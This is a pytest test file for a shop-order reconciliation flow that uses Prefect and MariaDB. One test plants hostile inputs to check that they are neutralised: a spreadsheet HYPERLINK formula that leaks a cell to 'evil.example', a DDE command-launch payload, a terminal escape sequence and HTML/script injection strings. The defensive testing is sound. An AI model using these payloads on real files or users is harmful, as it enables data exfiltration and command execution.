"""The reconciliation flow and its command, against MariaDB, the sandbox and a real Prefect run."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import requests
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRunId, FlowFilter, FlowFilterName
from prefect.client.schemas.sorting import FlowRunSort
from sqlalchemy import create_engine, select

from flows.cli.main import EXIT_SETTING, main
from flows.delivery_report import delivery_report
from flows.reconcile import reconciliation
from schemas.corrections import DIFFERENCE_COLUMNS
from schemas.state import shop_corrections
from tasks.inert import plain_text
from tests.flows.conftest import Pipeline
from tests.rendered import IMG, JS_LINK, PIXEL, SCRIPT, artifact_markdown, live_parts
from tests.shops import SINCE, UNTIL

WINDOW = {"since": SINCE.isoformat(), "until": UNTIL.isoformat()}
MYSQL = [pytest.param("mysql", marks=pytest.mark.mysql)]


def corrections_file(path: Path, *records: object, malformed: str | None = None) -> str:
    """A JSON Lines file of corrections, with one malformed line after the first record if asked."""
    lines = [json.dumps(record) for record in records]
    if malformed is not None:
        lines.insert(1, malformed)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return str(path)


@pytest.mark.parametrize("pipeline", MYSQL, indirect=True)
def test_apply_then_the_next_delivery_report_sends_the_fix_and_a_second_reconciliation_finds_nothing(
    pipeline: Pipeline, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pipeline.shop.shipped_order("AAAAAAAAA")
    pipeline.shop.shipped_order("BBBBBBBBB", id_address_delivery=pipeline.shop.new_address(alias="Casa"))
    delivery_report(**WINDOW)
    source = corrections_file(
        tmp_path / "corrections.jsonl",
        {"order_ref_1": "AAAAAAAAA", "customer": {"email": "ana.garcia@example.com"}},
        {"order_ref_1": "BBBBBBBBB", "delivery_address": {"postal_code": "28014", "city": "MADRID"}},
        {"order_ref_1": "NOTINSHOP", "customer": {"email": "x@example.com"}},
        malformed='{"order_ref_1": "AAAAAAAAA", "delivery_address": {"postal_code": 28013}}',
    )
    out = tmp_path / "differences.csv"

    assert main(["reconcile", "--corrections", source, "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    with out.open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert out.read_text(encoding="utf-8").splitlines()[0] == ",".join(DIFFERENCE_COLUMNS)
    assert sorted((row["order_reference"], row["record"], row["field"]) for row in rows) == [
        ("AAAAAAAAA", "customer", "email"),
        ("BBBBBBBBB", "delivery_address", "postal_code"),
    ]
    assert "line 4: NOTINSHOP" in printed
    assert "line 2: delivery_address.postal_code: is 28013, not text" in printed
    assert "Changes --apply would make (nothing was written)" in printed
    assert pipeline.held("AAAAAAAAA")["customer"]["email"] == "ana@example.com"

    assert "line 4: NOTINSHOP" in printed
    assert out.with_suffix(".changes.txt").read_text(encoding="utf-8").count("\n") == 2

    assert main(["reconcile", "--corrections", source, "--apply", "--out", str(out), "--force"]) == 0
    printed = capsys.readouterr().out
    assert "| orders fixed | 2 |" in printed
    assert "AAAAAAAAA: customer 1, in place: email 'ana@example.com' -> 'ana.garcia@example.com'" in printed
    assert "BBBBBBBBB: address 2 copied to new address 3 with postal_code '28013' -> '28014'" in printed
    store = create_engine(pipeline.state_url)
    with store.connect() as conn:
        audit = conn.execute(
            select(shop_corrections.c.field, shop_corrections.c.after_value, shop_corrections.c.status)
        ).all()
    store.dispose()
    assert sorted(audit) == [
        ("email", "ana.garcia@example.com", "applied"),
        ("postal_code", "28014", "applied"),
    ]

    after = delivery_report()
    assert after.counts.updated == 2
    assert pipeline.held("AAAAAAAAA")["customer"]["email"] == "ana.garcia@example.com"
    assert pipeline.held("BBBBBBBBB")["delivery_address"]["postal_code"] == "28014"

    again = reconciliation(corrections=source, out=str(tmp_path / "again.csv"))
    assert again.outcome.counts.differences == 0
    assert again.outcome.counts.matched == 2


def artifacts_of(flow_run_id: object) -> dict[str, tuple[str, object, str]]:
    """A flow run's artifacts: type, data and description by key."""
    with get_client(sync_client=True) as client:
        found = client.read_artifacts(
            artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[flow_run_id]))
        )
    return {a.key: (a.type, a.data, a.description or "") for a in found if a.key}


def live_in(artifacts: dict[str, tuple[str, object, str]]) -> dict[str, list[str]]:
    """What renders live in each artifact, as the UI renders its markdown, table cells and description."""
    live = {
        key: [part for text in [*artifact_markdown(kind, data), description] for part in live_parts(text)]
        for key, (kind, data, description) in artifacts.items()
    }
    return {key: parts for key, parts in live.items() if parts}


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"
TERMINAL = "\x1b]0;pwned\x07\x1b[2J"  # sets the terminal's title, clears its screen


def test_no_artifact_of_a_hostile_corrections_file_and_shop_renders_live_html_links_or_images(
    pipeline: Pipeline, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    admin = "https://shop.example/admin123/"
    monkeypatch.setenv("SHOP_ADMIN_URL", admin)
    pipeline.shop.shipped_order("AAAAAAAAA")
    with pipeline.shop.engine.begin() as conn:
        conn.execute(
            pipeline.shop.tables.customer.update().values(firstname=f"Ana {TERMINAL}", lastname=SCRIPT)
        )
    source = corrections_file(
        tmp_path / "corrections.jsonl",
        {
            "order_ref_1": "AAAAAAAAA",
            "customer": {"given_names": IMG, "surnames": FORMULA},
            "delivery_address": {"city": JS_LINK, "address_line_1": CALC, "extra": PIXEL},
        },
        {"order_ref_1": "<b>x</b>", "customer": {"email": "x@example.com"}},
        {"order_ref_1": "CCCCCCCCC", "customer": {SCRIPT: "x"}},
        malformed=json.dumps({"order_ref_1": "BBBBBBBBB", "customer": {"email": IMG}}),
    )
    out = tmp_path / "differences.csv"

    assert main(["reconcile", "--corrections", source, "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert f"| {SCRIPT}" not in printed  # no table cell of its own
    assert IMG in printed and JS_LINK in printed and "\\x1b]0;pwned\\x07\\x1b[2J" in printed
    assert "\x1b" not in printed
    with out.open(encoding="utf-8", newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert f"'{FORMULA}" in cells and f"'{CALC}" in cells
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))] == []
    with get_client(sync_client=True) as client:
        [run] = client.read_flow_runs(  # the newest reconciliation: other runs may be scheduled far ahead
            flow_filter=FlowFilter(name=FlowFilterName(any_=["reconciliation"])),
            sort=FlowRunSort.START_TIME_DESC,
            limit=1,
        )
    artifacts = artifacts_of(run.id)
    differences = json.loads(artifacts["reconciliation-differences-demo-merchant"][1])
    fields = {plain_text(row["Field"]).replace("  \n", " ") for row in differences}
    assert fields == {
        "customer: given names",
        "customer: surnames",
        "delivery address: city",
        "delivery address: address line 1",
        "delivery address: extra",
    }
    assert set(live_in(artifacts)) == {"reconciliation-differences-demo-merchant"}
    assert {part for part in live_in(artifacts)["reconciliation-differences-demo-merchant"]} == {
        f"link: {admin}index.php/sell/customers/{pipeline.shop.customer}/edit",
        f"link: {admin}index.php/sell/orders/1/view",
    }


def test_reconcile_never_replaces_its_csv_or_changes_file_without_force(
    pipeline: Pipeline, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pipeline.shop.shipped_order("AAAAAAAAA")
    source = corrections_file(
        tmp_path / "c.jsonl", {"order_ref_1": "AAAAAAAAA", "customer": {"email": "ana.garcia@example.com"}}
    )
    out, changes = tmp_path / "kept.csv", tmp_path / "kept.changes.txt"
    for taken in (out, changes):
        taken.write_text("kept", encoding="utf-8")
        assert main(["reconcile", "--corrections", source, "--out", str(out)]) == EXIT_SETTING
        assert capsys.readouterr().err == (
            f"sequra-etl: --out: {taken} already exists; give a file that does not, "
            "or --force to replace it\n"
        )
        assert [p.read_text(encoding="utf-8") for p in (out, changes) if p.exists()] == ["kept"]
        taken.unlink()
    assert main(["reconcile", "--corrections", source, "--out", str(tmp_path)]) == EXIT_SETTING
    assert f"--out: {tmp_path} is a folder" in capsys.readouterr().err
    out.write_text("kept", encoding="utf-8")
    assert main(["reconcile", "--corrections", source, "--out", str(out), "--force"]) == 0
    assert out.read_text(encoding="utf-8").startswith("order_reference,")
    assert "ana.garcia@example.com" in changes.read_text(encoding="utf-8")


def test_a_reconciliation_stopped_by_a_hostile_source_says_why_as_text(
    pipeline: Pipeline, tmp_path: Path
) -> None:
    state = reconciliation(corrections=str(tmp_path / f"{IMG}.jsonl"), return_state=True)
    artifacts = artifacts_of(state.state_details.flow_run_id)
    [(_, why, _)] = artifacts.values()
    assert "stopped before its end" in why
    assert live_in(artifacts) == {}


def test_the_run_is_named_after_its_source_and_publishes_its_artifacts(
    pipeline: Pipeline, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SHOP_ADMIN_URL", "https://shop.example/admin123")
    pipeline.shop.shipped_order("AAAAAAAAA")
    source = corrections_file(
        tmp_path / "corrections.jsonl",
        {"order_ref_1": "AAAAAAAAA", "customer": {"email": "ana.garcia@example.com"}},
        {"order_ref_1": "NOTINSHOP", "customer": {"email": "x@example.com"}},
    )
    state = reconciliation(corrections=source, out=str(tmp_path / "out.csv"), return_state=True)
    flow_run_id = state.state_details.flow_run_id
    with get_client(sync_client=True) as client:
        run = client.read_flow_run(flow_run_id)
        artifacts = client.read_artifacts(
            artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[flow_run_id]))
        )
    started = run.expected_start_time.astimezone(ZoneInfo("Europe/Madrid")).strftime("%Y-%m-%d %H:%M")
    assert run.name == f"reconciliation corrections.jsonl {started} Europe/Madrid"
    by_key = {artifact.key: artifact for artifact in artifacts}
    [row] = json.loads(by_key["reconciliation-differences-demo-merchant"].data)
    assert row == {
        "Order": "AAAAAAAAA",
        "Field": "customer: email",
        "In the shop": "ana@example.com",
        "SeQura's value": "ana.garcia  \n@example.com",  # lines that fit the UI, which never wraps a cell
        "Where to fix it": f"Customers > Customers  \n\\> customer {pipeline.shop.customer} > "
        f"Edit:  \nEmail  \n[back-office page](https://shop.example/admin123/index.php/sell/customers/"
        f"{pipeline.shop.customer}/edit)  \nbefore the next  \ndelivery report sends  \nit again",
    }
    summary = by_key["reconciliation-summary-demo-merchant"].data
    assert f"Merchant demo\\_merchant, started {started} Europe/Madrid; read only" in summary
    assert "| customer: email | 1 |" in summary
    assert "NOTINSHOP" in by_key["reconciliation-not-reconciled-demo-merchant"].data
    assert "customer 1, in place: email" in by_key["reconciliation-changes-demo-merchant"].data


def test_corrections_are_read_from_a_url_with_basic_auth(pipeline: Pipeline, tmp_path: Path) -> None:
    pipeline.shop.shipped_order("AAAAAAAAA")
    records = [{"order_ref_1": "AAAAAAAAA", "delivery_address": {"postal_code": "28014"}}]
    requests.post(f"{pipeline.sandbox.url}_sandbox/corrections", json=records, timeout=5).raise_for_status()
    summary = reconciliation(
        corrections=f"{pipeline.sandbox.url}_sandbox/corrections?format=csv", out=str(tmp_path / "out.csv")
    )
    assert [(d.record, d.field) for d in summary.outcome.differences] == [("delivery_address", "postal_code")]
    assert summary.source == f"{pipeline.sandbox.url}_sandbox/corrections"


@pytest.mark.usefixtures("pipeline")
def test_a_missing_corrections_file_or_setting_ends_with_exit_code_2(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert main(["reconcile", "--corrections", str(tmp_path / "nowhere.jsonl")]) == EXIT_SETTING
    assert "--corrections: no file at" in capsys.readouterr().err
    monkeypatch.delenv("SEQURA_MERCHANT_ID")
    source = corrections_file(tmp_path / "c.jsonl", {"order_ref_1": "AAAAAAAAA"})
    assert main(["reconcile", "--corrections", source]) == EXIT_SETTING
    assert "SEQURA_MERCHANT_ID: is not set" in capsys.readouterr().err


def test_a_source_of_malformed_records_still_runs_and_exits_0(
    pipeline: Pipeline, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "broken.jsonl"
    source.write_text('{"order_ref_1": "A", "customer": {"email": "nope"}}\nnot json\n', encoding="utf-8")
    assert main(["reconcile", "--corrections", str(source), "--out", str(tmp_path / "o.csv")]) == 0
    printed = capsys.readouterr().out
    assert "| malformed records | 2 |" in printed
    assert "line 1: customer.email: 'nope' is not an email address" in printed
    assert "line 2: record: is not JSON" in printed


def test_a_reconciliation_that_cannot_read_its_source_still_says_why_in_its_summary(
    pipeline: Pipeline, tmp_path: Path
) -> None:
    state = reconciliation(
        corrections=f"{pipeline.sandbox.url}_sandbox/nowhere", out=str(tmp_path / "o.csv"), return_state=True
    )
    with get_client(sync_client=True) as client:
        run = client.read_flow_run(state.state_details.flow_run_id)
        artifacts = client.read_artifacts(
            artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[run.id]))
        )
    assert run.state.type.value == "FAILED"
    [summary] = [a for a in artifacts if a.key == "reconciliation-summary-demo-merchant"]
    assert "stopped before its end:** CorrectionsSourceError" in summary.data
    assert "answered 404" in summary.data
